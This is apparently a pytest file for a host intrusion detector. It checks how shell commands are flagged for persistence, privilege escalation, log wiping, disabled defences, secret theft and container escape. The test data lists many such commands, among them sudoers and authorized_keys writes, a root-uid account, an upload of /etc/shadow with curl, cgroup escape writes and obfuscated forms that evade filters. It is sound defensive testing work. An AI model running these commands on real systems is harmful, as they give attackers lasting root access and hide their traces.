"""Commands that persist, hide, take or escape; and the weight of ordinary administration."""

import pytest

from pyloader.evidence import Group
from tests.unit.evidence.stage import Stage


@pytest.mark.parametrize(
    ("line", "code"),
    [
        ("crontab jobs.txt", "scheduled_job"),
        ("crontab -", "scheduled_job"),
        ("at now + 1 minute", "scheduled_job"),
        ("systemctl enable backdoor.service", "unit_enabled"),
        ("systemd-run --on-calendar=hourly /bin/true", "transient_unit"),
        ("tee -a /root/.ssh/authorized_keys", "ssh_keys_written"),
        ("tee /etc/rc.local", "start_file_written"),
        ("cp x /etc/cron.d/x", "scheduled_job"),
        ("cp x.service /etc/systemd/system/x.service", "start_file_written"),
        ("tee /etc/ld.so.preload", "loader_hooked"),
        ("tee -a /etc/sudoers", "policy_written"),
        ("sed -i s/a/b/ /etc/pam.d/su", "policy_written"),
        ("tee -a /etc/passwd", "account_file_written"),
        ("useradd -m eve", "account_created"),
        ("useradd -o -u 0 eve", "root_account"),
        ("chmod u+s /opt/x", "setuid_bit"),
        ("chmod 4755 /tmp/x", "setuid_bit_temporary"),
        ("chmod +s /bin/bash", "setuid_bit_temporary"),
        ("setcap cap_net_raw+ep /usr/bin/x", "file_capability"),
        ("setcap cap_setuid+ep /usr/bin/python3", "file_capability_handed"),
        ("setcap cap_setuid+ep /usr/bin/newuidmap", "file_capability_root"),
        ("insmod /lib/x.ko", "module_loaded"),
        ("insmod /tmp/rootkit.ko", "module_loaded_temporary"),
        ("rm -f /root/.bash_history", "history_file_cleared"),
        ("ln -sf /dev/null /home/u/.bash_history", "history_file_cleared"),
        ("shred -u /var/log/wtmp", "login_records_cleared"),
        ("truncate -s 0 /var/log/auth.log", "login_records_cleared"),
        ("rm -rf /var/log/syslog", "logs_cleared"),
        ("touch -r /bin/ls /tmp/x", "timestamp_forged"),
        ("touch -r a b", "timestamp_set"),
        ("systemctl stop auditd", "defence_stopped"),
        ("service rsyslog stop", "defence_stopped"),
        ("pkill -9 falco", "defence_stopped"),
        ("auditctl -e 0", "defence_stopped"),
        ("iptables -F", "firewall_opened"),
        ("ufw disable", "firewall_opened"),
        ("systemctl disable firewalld", "firewall_opened"),
        ("setenforce 0", "hardening_lowered"),
        ("sysctl -w kernel.randomize_va_space=0", "hardening_lowered"),
        ("chattr +i /etc/x", "attribute_locked"),
        ("cat /etc/shadow", "secret_read"),
        ("cat /home/u/.ssh/id_rsa", "secret_read"),
        ("cp /etc/shadow /tmp/x", "secret_copied"),
        ("curl -F f=@/etc/shadow http://x/", "secret_copied"),
        ("find / -perm -4000 -type f", "setuid_hunt"),
        ("getcap -r /", "setuid_hunt"),
        ("find / -name id_rsa", "key_hunt"),
        ("dd if=/proc/42/mem of=/tmp/x", "memory_read"),
        ("gcore 42", "memory_dump"),
        ("gdb -p 42", "memory_dump"),
        ("nsenter -t 1 -m -u -i -n", "namespace_entered"),
        ("docker run -v /:/mnt alpine chroot /mnt sh", "host_mounted_shell"),
        ("docker run --privileged --pid=host alpine", "host_mounted"),
        ("tee /sys/fs/cgroup/x/release_agent", "escape_file_written"),
        ("sysctl -w kernel.core_pattern=|/tmp/x", "escape_file_written"),
        ("linpeas.sh", "offensive_tool"),
        ("xmrig -o pool.example.com:3333", "miner"),
        ("nmap -sV 10.0.0.0/24", "network_scan"),
        ("env LD_PRELOAD=/tmp/x.so ls", "library_preloaded_temporary"),
    ],
)
def test_command(stage: Stage, line: str, code: str) -> None:
    """Each command is told by its code."""
    assert code in stage.codes(stage.run(line.split()))


@pytest.mark.parametrize(
    ("script", "code"),
    [
        ("history -c", "history_cleared"),
        ("unset HISTFILE", "history_cleared"),
        ("export HISTFILESIZE=0", "history_cleared"),
        ("HISTFILE=/dev/null bash", "history_cleared"),
        ("echo > ~/.bash_history", "history_file_cleared"),
        ("cat /dev/null > /var/log/wtmp", "login_records_cleared"),
        ("echo '* * * * * root x' > /etc/cron.d/x", "scheduled_job"),
        ("echo x >> ~/.bashrc", "start_file_written"),
        ("echo /tmp/x.so > /etc/ld.so.preload", "loader_hooked"),
        ("echo key >> /root/.ssh/authorized_keys", "ssh_keys_written"),
        ("echo 'u ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", "rights_given_away"),
        ("echo 0 > /proc/sys/kernel/randomize_va_space", "hardening_lowered"),
        ("LD_PRELOAD=/tmp/x.so id", "library_preloaded_temporary"),
        ("X=$'\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74\\x70'; $X", "scrambled_code"),
        ("cat${IFS}/etc/passwd", "scrambled_code"),
        ("w'h'o'a'mi", "scrambled_code"),
    ],
)
def test_shell_code(stage: Stage, script: str, code: str) -> None:
    """What builtins and redirections do is in the code of the shell alone."""
    assert code in stage.codes(stage.run(["bash", "-c", script]))


@pytest.mark.parametrize(
    "line",
    [
        "ls -la",
        "crontab -l",
        "systemctl status nginx",
        "systemctl restart nginx",
        "chmod 755 x",
        "chmod -R g+s /srv",
        "chmod 2775 /srv",
        "git commit -m shadow",
        "cp a b",
        "rm -rf build",
        "touch x",
        "find . -name x",
        "tail -f /var/log/syslog",
        "grep -r foo .",
        "gdb ./a.out",
        "mount /dev/sdb1 /mnt",
        "docker run -v /data:/data x",
        "iptables -L",
        "ps aux",
        "docker run -v /:/rootfs:ro exporter",
        "kill 42",
        "ssh -i /home/u/.ssh/id_rsa host",
        "sysctl -a",
        "ip addr add 10.0.0.1/8 dev x",
        "curl -o x http://x/",
        "ln -s a b",
        "useradd",
        "env",
        "dd if=/dev/zero of=x",
        "sed -i s/a/b/ x",
        "tee x.log",
    ],
)
def test_silent_commands(stage: Stage, line: str) -> None:
    """Everyday commands say nothing at all."""
    assert not stage.codes(stage.run(line.split()))


def test_ordinary_administration_stays_low(stage: Stage) -> None:
    """Administrators schedule jobs, enable units, add users, stop firewalls: each alone is far from an alarm."""
    for line in (
        "crontab jobs", "systemctl enable x", "useradd x", "chmod u+s /opt/x", "cat /etc/shadow", "ufw disable",
        "tee /root/.ssh/authorized_keys", "cp x /etc/systemd/system/x.service", "chattr +i x", "touch -d 2020-01-01 x",
    ):  # fmt: skip
        stage.run(line.split())
        assert all(item.nats <= 3 for item in stage.last)


def test_memory_is_a_group_of_its_own(stage: Stage) -> None:
    """Reading memory does not depend on what else a command does."""
    stage.run(["dd", "if=/proc/42/mem", "of=x"])
    assert stage.last[0].group is Group.MEMORY


def test_escape_from_a_container(stage: Stage) -> None:
    """The same command weighs more where it leads out of a container."""
    stage.container(9)
    inside = stage.run(["nsenter", "-t", "1", "-m", "sh"], cgroup=9)
    outside = stage.run(["nsenter", "-t", "1", "-m", "sh"])
    assert "container_escape" in stage.codes(inside)
    assert stage.score(inside) > stage.score(outside)


def test_long_encoded_argument_is_weak(stage: Stage) -> None:
    """A long blob in code is unusual, and no alarm."""
    process = stage.run(["python3", "-c", "x='" + "aB3" * 80 + "'"])
    assert stage.codes(process) == {"encoded_argument"}
    assert stage.score(process) < 50
